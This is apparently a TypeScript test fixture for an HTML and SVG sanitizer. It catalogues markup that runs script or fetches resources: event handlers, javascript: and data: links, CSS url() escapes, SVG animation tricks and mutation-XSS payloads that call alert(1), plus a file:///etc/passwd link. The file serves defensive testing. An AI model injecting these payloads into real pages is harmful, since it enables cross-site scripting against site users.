/** Markup that fetches, leaves the page or runs a script if it reaches a browser as it is. */

/** Markup by name. What it fetches is below `origin`, and what it runs calls `alert`. */
type Markup = Readonly<Record<string, string>>;

const XLINK = 'xmlns:xlink="http://www.w3.org/1999/xlink"';
const NAMESPACES = `xmlns="http://www.w3.org/2000/svg" ${XLINK}`;

/** Elements and attributes that act by themselves. */
function acting(at: string): Markup {
  return {
    script: `<script>alert(1)</script>`,
    "outside script": `<script src="${at}/a.js"></script>`,
    "event handler": `<img src=x onerror=alert(1)>`,
    "handler after a slash": `<img/src=x/onerror=alert(1)>`,
    "body handler": `<body onload=alert(1)><img src="${at}/body.png">`,
    "details toggle": `<details open ontoggle=alert(1)>a</details>`,
    "autofocus": `<input autofocus onfocus=alert(1)>`,
    "focus by tabindex": `<p tabindex=0 autofocus onfocus=alert(1)>a</p>`,
    "svg onload": `<svg onload=alert(1)></svg>`,
    "animation event":
      `<style>@keyframes k{}</style><p style="animation:k" onanimationstart=alert(1)>`,
    refresh: `<meta http-equiv="refresh" content="0;url=${at}/refresh">`,
    "refresh to a script":
      `<meta http-equiv=refresh content="0;url=data:text/html,<script>alert(1)</script>">`,
    base: `<base href="${at}/base/"><img src="a.png">`,
    "style sheet": `<link rel=stylesheet href="${at}/a.css">`,
    preload: `<link rel=preload as=image href="${at}/preload.png">`,
    prefetch: `<link rel="dns-prefetch preconnect" href="${at}"><img src="${at}/prefetch.png">`,
    icon: `<link rel=icon href="${at}/icon.png"><img src="${at}/icon.png">`,
    form: `<form action="${at}/form"><button autofocus formaction="${at}/b">a</button></form>
      <script>document.forms[0].submit()</script>`,
    "form behind a style's comment":
      `<style><!--</style><form action="${at}/f"><input type=image src="${at}/f.png"></form><!-- --></style>`,
  };
}

/** Elements that embed or show what they fetch. */
function embedding(at: string): Markup {
  return {
    image: `<img src="${at}/image.png">`,
    "image by protocol": `<img src="//${at.slice(7)}/protocol.png">`,
    srcset: `<img srcset="${at}/1.png 1x, ${at}/2.png 2x">`,
    picture: `<picture><source srcset="${at}/source.png"><img alt=a></picture>`,
    "image with a script's type":
      `<img src="data:text/html,<script>alert(1)</script>"><img src="${at}/t.png">`,
    iframe: `<iframe src="${at}/iframe"></iframe>`,
    srcdoc: `<iframe srcdoc="&lt;script&gt;parent.alert(1)&lt;/script&gt;"></iframe>`,
    object: `<object data="${at}/object"></object>`,
    embed: `<embed src="${at}/embed">`,
    video: `<video poster="${at}/poster.png" src="${at}/video.mp4" autoplay></video>`,
    audio: `<audio src="${at}/audio.mp3" autoplay></audio>`,
    track: `<video><source src="${at}/movie.mp4"></video>`,
    background: `<table background="${at}/table.png"><tr><td background="${at}/td.png">a</table>`,
    "body background": `<body background="${at}/bodyground.png">`,
    "image button": `<input type=image src="${at}/button.png">`,
    "frames": `<frameset><frame src="${at}/frame"></frameset><iframe src="${at}/frames"></iframe>`,
    template: `<template shadowrootmode=open><img src="${at}/shadow.png"></template>`,
    "in a template": `<div><template shadowrootmode=open><img src="${at}/in.png"></template></div>`,
    portal: `<fencedframe></fencedframe><img lowsrc="${at}/low.png" src="${at}/low.png">`,
  };
}

/** Styles that fetch. */
function styling(at: string): Markup {
  const escaped = `\\75 rl(${at}/escaped.png)`;
  return {
    "style url": `<p style="background:url(${at}/style.png)">a</p>`,
    "style url with an escape":
      `<p style='background:${escaped}'>a</p><style>p{background:u\\72l(${at}/u.png)}</style>`,
    "style url with an entity": `<p style="background:&#117;rl(${at}/entity.png)">a</p>`,
    "style url in a comment":
      `<p style="background:/**/url(/**/${at}/c.png);background:url('${at}/c.png')">a</p>`,
    "image set": `<p style="background:image-set('${at}/set.png' 1x)">a</p>`,
    "prefixed image set": `<p style="background:-webkit-image-set('${at}/wset.png' 1x)">a</p>`,
    "cross fade":
      `<p style="background:-webkit-cross-fade(url(${at}/fade.png),url(${at}/f.png),.5)">a</p>`,
    "style variable": `<p style="--a:url(${at}/variable.png);background:var(--a)">a</p>`,
    "list style": `<ul style="list-style:url(${at}/list.png)"><li>a</ul>`,
    cursor: `<p style="cursor:url(${at}/cursor.cur),auto;border-image:url(${at}/border.png)">a</p>`,
    content: `<style>p::before{content:url(${at}/content.png)}</style><p>a</p>`,
    import: `<style>@import "${at}/import.css";</style>`,
    "import by url": `<style>@\\69mport url(${at}/import2.css);</style>`,
    "font face":
      `<style>@font-face{font-family:f;src:url(${at}/f.woff2)}p{font-family:f}</style><p>a</p>`,
    "style in svg":
      `<svg><style>rect{fill:red;background:url(${at}/svgstyle.png)}@import "${at}/s.css";</style><rect width=9 height=9 /></svg>`,
    "style filter":
      `<p style="filter:url(${at}/f.svg#a);mask:url(${at}/mask.svg#a);clip-path:url(${at}/c.svg#a)">a</p>`,
  };
}

/** Drawings that fetch or run. */
function drawing(at: string): Markup {
  return {
    "svg script": `<svg ${NAMESPACES}><script>alert(1)</script></svg>`,
    "svg script by address": `<svg ${NAMESPACES}><script href="${at}/svg.js"/></svg>`,
    "svg image": `<svg ${NAMESPACES}><image href="${at}/svg.png" width="9" height="9"/></svg>`,
    "svg image by xlink":
      `<svg ${NAMESPACES}><image xlink:href="${at}/xlink.png" width="9" height="9"/></svg>`,
    "svg use":
      `<svg ${NAMESPACES}><use href="${at}/use.svg#a"/><use xlink:href="${at}/x.svg#a"/><image href="${at}/use.png"/></svg>`,
    "svg filter image":
      `<svg ${NAMESPACES}><filter id="f"><feImage href="${at}/fe.png"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>`,
    "svg fill":
      `<svg ${NAMESPACES}><rect fill="url(${at}/fill.svg#a)" mask="url(${at}/m.svg#a)" filter="url(${at}/f.svg#a)" width="9" height="9"/></svg>`,
    "svg animated link":
      `<svg ${NAMESPACES}><a><animate attributeName="href" values="javascript:alert(1)"/><text y="9">a</text></a><image><set attributeName="href" to="${at}/set.png"/></image></svg>`,
    "svg animated image":
      `<svg ${NAMESPACES}><image width="9" height="9"><animate attributeName="href" to="${at}/anim.png" dur="1s" fill="freeze"/></image></svg>`,
    "svg foreign object":
      `<svg ${NAMESPACES}><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${at}/foreign"></iframe></foreignObject></svg>`,
    "svg handler": `<svg ${NAMESPACES} onload="alert(1)"><image href="${at}/handler.png"/></svg>`,
    "svg style":
      `<svg ${NAMESPACES}><style>@import "${at}/style.css"; rect { fill: red }</style><rect width="9" height="9" style="background:url(${at}/rect.png)"/></svg>`,
  };
}

/** Markup that changes its meaning when it is written and read again. */
function mutating(): Markup {
  const evil = `<img src=x onerror=alert(1)>`;
  return {
    "noscript title": `<noscript><p title="</noscript>${evil}"></noscript>`,
    "style in math": `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;${
      evil.replaceAll("<", "&lt;").replaceAll(">", "&gt;")
    }">${evil}`,
    "annotation":
      `<math><annotation-xml encoding="text/html"><style>${evil}</style></annotation-xml></math>${evil}`,
    "svg title": `<svg><title><style></title>${evil}</style></title></svg>`,
    "svg desc": `<svg><desc><noembed></desc>${evil}</noembed></svg>`,
    "style closes itself": `<svg></p><style><a id="</style>${evil}">`,
    "form in a form": `<form><math><mtext></form><form><mglyph><style></math>${evil}`,
    "select": `<select><style></select>${evil}</style>`,
    "textarea": `<textarea></textarea>${evil}<textarea>`,
    "comment tricks": `<!--><img src=x onerror=alert(1)>--><!-- --!>${evil}`,
    "plaintext": `${evil}<plaintext>`,
    "unclosed comment": `${evil}<!--`,
    "unclosed tag": `<img src=x onerror=alert(1) title="`,
    "cdata": `<svg><![CDATA[>${evil}]]></svg>`,
    "xmp": `<xmp></xmp>${evil}<xmp>`,
    "nested depth": `${"<div>".repeat(300)}<table><td><svg><title>${evil}`,
  };
}

/** Links that run or tell; they act when a reader follows them. */
export function hostileLinks(at: string): Markup {
  return {
    "script link": `<a href="javascript:alert(1)">a</a>`,
    "script link with breaks": `<a href=" java\nscript:alert(1)">a</a>`,
    "script link with an entity": `<a href="jav&#x09;ascript&colon;alert(1)">a</a>`,
    "script link in svg":
      `<svg ${XLINK}><a xlink:href="javascript:alert(1)"><text y="9">a</text></a></svg>`,
    "script link in math":
      `<math><mi href="javascript:alert(1)" xlink:href="javascript:alert(1)">a</mi></math>`,
    "data link": `<a href="data:text/html,<script>alert(1)</script>">a</a>`,
    "file link": `<a href="vbscript:a">a</a><a href="file:///etc/passwd">a</a>`,
    ping: `<a ping="${at}/ping" href="#a">a</a>`,
    download: `<a href="blob:${at}/a" download>a</a>`,
  };
}

/** Markup that acts as soon as a page is opened. */
export function hostileMarkup(at: string): Markup {
  return { ...acting(at), ...embedding(at), ...styling(at), ...drawing(at), ...mutating() };
}

/** Those that are SVG documents. */
export const hostileDrawings = drawing;
